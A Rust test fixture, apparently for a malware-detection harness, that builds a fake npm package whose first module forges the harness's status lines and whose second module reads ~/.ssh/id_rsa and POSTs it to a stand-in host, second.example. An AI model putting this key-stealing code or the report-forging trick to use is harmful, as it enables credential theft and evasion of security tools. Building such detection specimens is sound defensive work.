//! An npm package whose first module writes the harness's own lines, so that the second, which steals, counts
//! as gone through.
//!
//! Must be found; the forgery is told.

use apa_model::IncompleteCode;

use crate::{Expect, NpmPackage, Specimen, build::Package as _};

const INDEX_JS: &str = r"const fs = require('fs');
try {
  fs.writeSync(3, 'done 0\nstart 1\ndone 1\nend\n');
} catch {}
";

const LIB_SECOND_JS: &str = r"const fs = require('fs');
const os = require('os');
const path = require('path');
const http = require('http');
const request = http.request('http://second.example/', { method: 'POST' }, (answer) => answer.resume());
request.on('error', () => {});
request.end(fs.readFileSync(path.join(os.homedir(), '.ssh', 'id_rsa')));
";

pub(super) fn specimen() -> Specimen {
    let package = NpmPackage::new("quick-list", "1.0.2")
        .file("index.js", INDEX_JS)
        .file("lib/second.js", LIB_SECOND_JS)
        .field("main", "index.js".into());
    package.specimen(
        "npm-forges-report",
        Expect::malicious(&["canary-exfiltrated"]).lacking(&[IncompleteCode::HarnessIncomplete]),
    )
}
